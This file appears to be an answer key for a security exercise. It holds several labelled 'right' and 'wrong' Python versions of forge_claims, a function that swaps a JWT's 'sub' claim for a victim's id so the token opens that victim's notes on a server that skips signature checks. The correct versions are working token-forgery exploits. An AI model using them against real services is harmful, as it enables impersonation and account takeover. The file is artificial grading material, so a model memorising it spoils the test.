# %% right: the claims with another sub, between the old header and the old signature
def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    header, claims, signature = token.split(".")
    changed = json.loads(decoded(claims))
    changed["sub"] = victim
    return f"{header}.{encoded(changed)}.{signature}"


# %% right: partition from both ends, and the signature left empty, since nobody reads it
def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    header, _, rest = token.partition(".")
    middle, _, _ = rest.rpartition(".")
    return ".".join([header, encoded(json.loads(decoded(middle)) | {"sub": victim}), ""])


# %% right: with base64 and json by hand, without the seam's functions
def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    import base64

    parts = token.split(".")
    padded = parts[1] + "=" * (-len(parts[1]) % 4)
    claims = json.loads(base64.urlsafe_b64decode(padded))
    claims.update(sub=str(victim))
    written = base64.urlsafe_b64encode(json.dumps(claims).encode("utf-8"))
    parts[1] = written.rstrip(b"=").decode("ascii")
    return ".".join(parts)


# %% wrong: replaces the name ada, which is nobody's at another server
def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    header, claims, signature = token.split(".")
    text = decoded(claims).decode().replace('"ada"', f'"{victim}"')
    return f"{header}.{encoded(text)}.{signature}"


# %% wrong: the victim goes into user_id, which this server doesn't read
def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    header, claims, signature = token.split(".")
    changed = json.loads(decoded(claims))
    changed["user_id"] = victim
    changed["username"] = victim
    return f"{header}.{encoded(changed)}.{signature}"


# %% wrong: always grace, whoever the victim is
def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    header, claims, signature = token.split(".")
    return f"{header}.{encoded(json.loads(decoded(claims)) | {'sub': 'grace'})}.{signature}"


# %% wrong: new claims with the name alone, so that no end is among them
def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    header, _, signature = token.split(".")
    return f"{header}.{encoded({'sub': victim})}.{signature}"


# %% wrong: keeps the first token that it forged, and gives it out for every later victim
_forged = []


def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    if not _forged:
        header, claims, signature = token.split(".")
        changed = json.loads(decoded(claims)) | {"sub": victim}
        _forged.append(f"{header}.{encoded(changed)}.{signature}")
    return _forged[0]


# %% wrong: the claims are changed in a copy, and the old part is put back
def forge_claims(token, victim):
    """A token that opens the victim's notes where nobody checks the signature."""
    parts = token.split(".")
    claims = dict(json.loads(decoded(parts[1])))
    claims["sub"] = victim
    return ".".join(parts)
